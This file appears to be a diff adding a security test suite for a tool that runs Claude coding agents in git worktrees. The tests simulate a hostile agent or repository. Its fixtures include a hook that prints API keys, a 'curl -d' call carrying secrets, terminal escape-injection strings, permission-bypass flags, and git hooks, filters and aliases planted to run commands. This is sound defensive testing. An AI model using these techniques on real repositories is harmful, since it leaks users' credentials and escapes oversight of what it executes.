@@ -1,0 +1,329 @@
+"""What a hostile list, repository or agent can't have: the attacks of docs/SECURITY.md, tried."""
+
+from __future__ import annotations
+
+import json
+import os
+import stat
+import unittest
+from collections.abc import Iterator, Mapping
+
+from tests.support.playground import Done, PlaygroundTest, feature, wait_until
+
+PLAIN = "canary-4f9e1b7c"
+"""Of a variable of the user's."""
+
+QUOTED = 'canary/0d3a"5e6f\\'
+"""Of a variable in the list; JSON spells it otherwise."""
+
+HOSTILE = "\x1b[31mred\x1b[0m\x07\x9b2J\u202egnp\r\x1b]0;t\u2028"
+"""Colour, bell, C1, right-to-left override, overwriting, a title, a separator of lines."""
+
+HOSTILE_SHELL = r"\033[31mred\007\302\2332J\342\200\256gnp\033]0;t"
+"""The same in the words of printf(1)."""
+
+HOOKS = (
+    *("pre-commit", "commit-msg", "post-commit", "post-checkout", "post-index-change"),
+    *("reference-transaction", "post-merge", "pre-auto-gc", "fsmonitor-watchman"),
+)
+
+HOOK = 'case "$PWD" in */hooked) echo "key: $ANTHROPIC_API_KEY, $DEPLOY_TOKEN" >&2; exit 1;; esac'
+
+
+def raw_result(**more: object) -> dict[str, object]:
+    """The step that prints a result of its own."""
+    line = {"type": "result", "subtype": "success", "is_error": False, "num_turns": 1}
+    return {"print": json.dumps({**line, "total_cost_usd": 0.1, **more}) + "\n"}
+
+
+class SecretsTest(PlaygroundTest):
+    """A secret in the environment, which the agent gets, and tells wherever it can."""
+
+    def setUp(self) -> None:
+        super().setUp()
+        self.playground.environ["ANTHROPIC_API_KEY"] = PLAIN
+        self.playground.hook("pre-commit", HOOK)
+        both = f"{PLAIN} and {QUOTED}"
+        denied = [{"tool_name": "Bash", "tool_input": {"command": f"curl -d '{both}' x"}}]
+        long = "x" * 70 + both  # cut in the middle of the secret
+        self.playground.features(
+            feature("told", {"write": "a"}, {"say": both}, raw_result(result=both), {"exit": 0}),
+            feature("used", {"bash": f": '{long}'"}, {"stderr": both}, {"write": "b"}),
+            feature("failed", {"stderr": both}, {"fail": f"Overloaded: {both}", "status": 529}),
+            feature("silent", {"stderr": both}, {"print": f"{both}\n"}, {"exit": 3}),
+            feature("branch", {"write": "c"}, {"bash": f"git checkout -qb {PLAIN}"}),
+            feature("file", {"write": f".env.{PLAIN}"}, {"write": f"{PLAIN}.txt"}),
+            feature("denied", raw_result(result=both, permission_denials=denied), {"exit": 0}),
+            feature("hooked", {"write": "d"}),
+            feature("left", {"write": f"{PLAIN}.txt"}, {"fail": "Overloaded", "status": 529}),
+            claude={"env": {"DEPLOY_TOKEN": QUOTED}},
+            max_parallel=4,
+        )
+
+    def everything(self) -> Iterator[tuple[str, Done]]:
+        """Every command, also with what makes it fail, and what it printed."""
+        for words in (
+            *("plan", "plan --json", "plan --verbose", f"plan --only {PLAIN}"),
+            *("run --yes --verbose", "run --yes --json --only told,used", f"run --{PLAIN}"),
+            *("status", "status --json", "status --verbose", f"logs {PLAIN}"),
+            *(f"logs {id} --verbose" for id in ("told", "used", "failed", "silent", "denied")),
+            *("cleanup --all --dry-run --json", "cleanup --all", f"cleanup {PLAIN}"),
+            *(f"plan --config {PLAIN}.json", "run --yes --fresh --json --quiet"),
+            *("cleanup --all --discard --verbose", "status"),
+        ):
+            yield words, self.playground.command(*words.split())
+
+    def on_disk(self) -> Iterator[str]:
+        """What is kept beside git's own, the raw logs and what the test itself wrote."""
+        reports = os.path.join(self.playground.workspace, "reports")
+        for top in (self.playground.state, reports, self.playground.path("tmp")):
+            for folder, folders, names in os.walk(top):
+                if "logs" in folders:
+                    folders.remove("logs")
+                yield from (os.path.join(folder, name) for name in names)
+
+    def assert_no_canary(self, text: str, where: str) -> None:
+        for canary in (PLAIN[:9], QUOTED, json.dumps(QUOTED)[1:-1], QUOTED[:-1]):
+            self.assertNotIn(canary, text, where)
+
+    def test_no_command_prints_a_secret_or_keeps_one_outside_of_the_raw_logs(self) -> None:
+        shown = ""
+        for words, done in self.everything():
+            with self.subTest(words):
+                self.assert_no_canary(done.out + done.err, words)
+                if "--json" in words:
+                    for line in done.out.splitlines() if words.startswith("run") else [done.out]:
+                        json.loads(line)
+            shown += done.out + done.err
+        self.assertGreater(shown.count("[masked ANTHROPIC_API_KEY]"), 20, shown)
+        self.assertGreater(shown.count("[masked DEPLOY_TOKEN]"), 10, shown)
+        kept = ""
+        for path in self.on_disk():
+            with open(path, encoding="utf-8") as file:
+                content = file.read()
+            self.assert_no_canary(content, path)
+            kept += content
+        self.assertGreater(kept.count("[masked ANTHROPIC_API_KEY]"), 20)
+        self.assertIn("[masked DEPLOY_TOKEN]", kept)
+
+    def test_the_agent_still_gets_the_secret_and_the_raw_log_is_as_it_came(self) -> None:
+        self.playground.run("--only", "told")
+        raw = self.playground.command("logs", "told", "--raw").out
+        self.assertIn(PLAIN, raw)
+        self.assertIn(json.dumps(QUOTED)[1:-1], raw)
+
+    def test_raw_logs_are_for_the_user_alone(self) -> None:
+        self.playground.run("--only", "told,silent")
+        logs = os.path.join(self.playground.state, "logs")
+        seen = 0
+        for folder, _, names in os.walk(logs):
+            self.assertEqual(stat.S_IMODE(os.stat(folder).st_mode), 0o700, folder)
+            for name in names:
+                path = os.path.join(folder, name)
+                self.assertEqual(stat.S_IMODE(os.stat(path).st_mode), 0o600, path)
+                seen += 1
+        self.assertEqual(seen, 6)
+
+
+class PermissionsTest(PlaygroundTest):
+    """A list that switches Claude's permissions off."""
+
+    def lists(self) -> Iterator[Mapping[str, object]]:
+        skip = "--dangerously-skip-permissions"
+        yield {"permission_mode": "bypassPermissions"}
+        yield {"extra_args": [skip]}
+        yield {"extra_args": ["--permission-mode=bypassPermissions"]}
+        yield {"extra_args": ["--permission-mode", "bypassPermissions"]}
+        yield {"extra_args": ["--settings", '{"permissions":{"defaultMode":"bypassPermissions"}}']}
+
+    def test_run_refuses_before_anything_starts_and_says_what_to_type(self) -> None:
+        for given in self.lists():
+            with self.subTest(str(given)):
+                self.playground.features(feature("a"), claude=given)
+                done = self.playground.run()
+                self.assertEqual(done.code, 2, done.err)
+                self.assertIn("next: ", done.err)
+                self.assertIn("--allow-bypass", done.err)
+                self.assertEqual(self.playground.journal(), [])
+
+    def test_plan_works_and_marks_it_and_run_starts_where_it_is_allowed(self) -> None:
+        self.playground.features(feature("a"), claude={"permission_mode": "bypassPermissions"})
+        plan = self.playground.command("plan")
+        self.assertEqual(plan.code, 0, plan.err)
+        self.assertIn("it may do anything unasked (claude.permission_mode)", plan.out)
+        (command,) = json.loads(self.playground.command("plan", "--json").out)["commands"]
+        self.assertEqual(command["bypass"], ["claude.permission_mode"])
+        done = self.playground.run("--allow-bypass")
+        self.assertEqual(done.code, 0, done.err)
+        self.assertIn("it may do anything unasked", done.err)
+
+    def test_the_commands_of_a_list_are_shown_before_anything_starts(self) -> None:
+        script = self.playground.script("evil.sh", "#!/bin/sh\nexit 1\n")
+        self.playground.features(
+            feature("a"),
+            claude={
+                "command": [script, "\x1b[2J--steal"],
+                "extra_args": ["--mcp-config", "x.json"],
+                "env": {"NODE_OPTIONS": "--require ./evil.js"},
+            },
+        )
+        plan = self.playground.command("plan").out
+        self.assertIn(f"Runs: {script} '--steal' -p --mcp-config x.json\n", plan)
+        self.assertIn("  with NODE_OPTIONS='--require ./evil.js'\n", plan)
+        told = self.playground.run().err
+        self.assertLess(told.index(f"Runs: {script}"), told.index("a: started"))
+
+
+class EscapesTest(PlaygroundTest):
+    """Names, model, tools, git and hooks that all try to steer the terminal."""
+
+    def test_no_control_character_reaches_the_terminal(self) -> None:
+        self.playground.hook("pre-commit", f"printf '{HOSTILE_SHELL}' >&2; exit 1")
+        denied = [{"tool_name": HOSTILE, "tool_input": {"command": HOSTILE}}]
+        self.playground.features(
+            feature("a", {"say": HOSTILE}, {"bash": f": '{HOSTILE}'"}, {"write": "a"}),
+            feature("b", {"stderr": HOSTILE}, {"print": f"{HOSTILE}\n"}, {"exit": 3}),
+            feature("c", {"fail": HOSTILE, "status": 529}),
+            feature("d", raw_result(result=HOSTILE, permission_denials=denied), {"exit": 0}),
+            feature("e", {"bash": f"printf x > \"$(printf '.env.{HOSTILE_SHELL}')\""}),
+            feature("f", {"write": "f"}, {"bash": f"printf x > \"$(printf '{HOSTILE_SHELL}')\""}),
+            feature("g", description=HOSTILE, tags=[HOSTILE], creates=[HOSTILE]),
+            claude={"extra_args": [HOSTILE.replace("\0", "")], "env": {"A": HOSTILE}},
+            description=HOSTILE,
+        )
+        shown = ""
+        for words in (
+            *("plan", "plan -v", "run --yes -v", "status", "status -v", f"logs {HOSTILE}"),
+            *(f"logs {id} -v" for id in "abcd"),
+            *("cleanup --all --dry-run", "cleanup --all", "cleanup --all --discard -v"),
+            *("plan --config " + HOSTILE, "plan --only " + HOSTILE),
+        ):
+            done = self.playground.command(*words.split(" "))
+            shown += done.out + done.err
+            for line in (done.out + done.err).split("\n"):
+                bad = [c for c in line if not (c.isprintable() or c == "\u200d")]
+                self.assertEqual(bad, [], f"{words}: {line!r}")
+        self.assertGreater(shown.count("red"), 25, "what was shown was cleaned, not left out")
+
+
+class RepositoryTest(PlaygroundTest):
+    """A repository that came with a configuration and hooks of its own, as in an archive."""
+
+    def test_looking_executes_nothing_of_it(self) -> None:
+        trace = self.playground.path("trace")
+        self.playground.features(feature("a"))
+        self.assertEqual(self.playground.run().code, 0)
+        touch = f"touch {trace}"
+        for name in HOOKS:
+            self.playground.hook(name, touch)
+        for key in (
+            *("core.fsmonitor", "core.pager", "core.editor", "core.sshCommand", "core.askPass"),
+            *("diff.external", "diff.x.textconv", "diff.x.command", "merge.x.driver", "alias.x"),
+            *("gpg.program", "credential.helper", "pager.status", "sequence.editor"),
+        ):
+            self.playground.repository.git("config", key, touch)
+        self.playground.repository.write({".gitattributes": "* diff=x merge=x\n"})
+        for words in ("plan", "status", "logs a", "cleanup --all --dry-run", "cleanup a"):
+            done = self.playground.command(*words.split())
+            self.assertIn(done.code, (0, 1), done.err)
+            self.assertFalse(os.path.exists(trace), words)
+
+
+class TamperingTest(PlaygroundTest):
+    """An agent that plants what git would execute."""
+
+    def setUp(self) -> None:
+        super().setUp()
+        self.trace = self.playground.path("trace")
+        self.git = self.playground.repository.git("rev-parse", "--absolute-git-dir")
+
+    def assert_nothing_ran(self) -> None:
+        self.assertFalse(os.path.exists(self.trace), "git executed what an agent had planted")
+
+    def assert_stopped(self, done: Done, what: str) -> None:
+        self.assertEqual(done.code, 1, done.err)
+        ended = self.playground.last("a")
+        self.assertEqual((ended["status"], ended["fault"]), ("failed", "tampered"))
+        self.assertIn(f"was changed: {what}\n", ended["reason"])
+        self.assertIn(what, done.out)
+        self.assert_nothing_ran()
+
+    def plant(self, command: str) -> Done:
+        """A run of a feature that plants something, and of one that is not started yet."""
+        attributes = f"printf '* filter=x\\n' > .gitattributes; {command}"
+        does = ({"write": "a.txt"}, {"bash": attributes})
+        self.playground.features(feature("a", *does), feature("b"), max_parallel=1)
+        return self.playground.run()
+
+    def test_each_planted_thing_stops_the_run_before_it_is_executed(self) -> None:
+        touch = f"touch {self.trace}"
+        hook = f"printf '#!/bin/sh\\n{touch}\\n'"
+        for what, command in {
+            "shop/.git/hooks/pre-commit was added": (
+                f"mkdir -p {self.git}/hooks; {hook} > {self.git}/hooks/pre-commit; "
+                f"chmod +x {self.git}/hooks/pre-commit"
+            ),
+            "filter.x.clean in shop/.git/config was added": f"git config filter.x.clean '{touch}'",
+            "core.hookspath in shop/.git/config was added": (
+                f"mkdir -p {self.git}/h; {hook} > {self.git}/h/pre-commit; "
+                f"chmod +x {self.git}/h/pre-commit; git config core.hooksPath {self.git}/h"
+            ),
+        }.items():
+            with self.subTest(what):
+                what = what.replace("shop/", "")
+                self.assert_stopped(self.plant(command), what)
+                self.assertEqual(self.playground.statuses()["b"], "cancelled")
+                self.assertIn(what, self.playground.last("b")["reason"])
+                worktree = self.playground.worktree("a")
+                self.assertTrue(os.path.exists(os.path.join(worktree, "a.txt")), "its work stays")
+                self.tearDown()
+                self.setUp()
+
+    def test_after_a_look_the_next_run_only_commits(self) -> None:
+        hook = f"{self.git}/hooks/pre-commit"
+        self.plant(f"mkdir -p {self.git}/hooks; printf 'exit 1' > {hook}; chmod +x {hook}")
+        os.unlink(hook)
+        done = self.playground.run()
+        self.assertEqual(done.code, 0, done.err)
+        self.assert_statuses(a="completed", b="completed")
+        self.assertEqual(len(self.playground.attempts("a")), 1)
+
+    def test_who_works_at_the_same_time_is_stopped_as_well(self) -> None:
+        go = self.playground.path("go")
+        self.playground.features(
+            feature("a", {"bash": f"git config alias.x '!touch {self.trace}'; touch {go}"}),
+            feature("b", {"wait": go}, {"write": "b.txt"}),
+            max_parallel=2,
+        )
+        self.assertEqual(self.playground.run().code, 1)
+        for id in ("a", "b"):
+            self.assertEqual(self.playground.last(id)["fault"], "tampered")
+            self.assertIn("any feature that was at work", self.playground.last(id)["reason"])
+        self.assertEqual(self.playground.ref("b"), [])
+
+    def test_the_user_may_change_what_executes_nothing(self) -> None:
+        began, go = (self.playground.path(name) for name in ("began", "go"))
+        self.playground.features(feature("a", {"write": began}, {"wait": go}, {"write": "a.txt"}))
+        running = self.playground.start("run", "--yes")
+        wait_until(lambda: os.path.exists(began), "the agent is at work")
+        self.playground.repository.git("remote", "add", "origin", "https://localhost/x.git")
+        self.playground.repository.git("config", "user.name", "Somebody Else")
+        self.playground.touch("go")
+        self.assertEqual(running.end().code, 0)
+
+    def test_hooks_of_the_users_run_at_the_commit_and_nowhere_else(self) -> None:
+        trace = self.playground.path("hooks-that-ran")
+        for name in ("pre-commit", "reference-transaction", "post-index-change", "post-checkout"):
+            where = f'"{name} $(ps -o args= $PPID | cut -c1-200)"'
+            self.playground.hook(name, f"echo {where} >> {trace}")
+        self.playground.features(feature("a"))
+        self.assertEqual(self.playground.run().code, 0)
+        with open(trace, encoding="utf-8") as file:
+            ran = file.read().splitlines()
+        self.assertTrue(any(line.startswith("pre-commit ") for line in ran), ran)
+        for line in ran:
+            self.assertIn(" commit --quiet ", line)
+
+
+if __name__ == "__main__":
+    unittest.main()
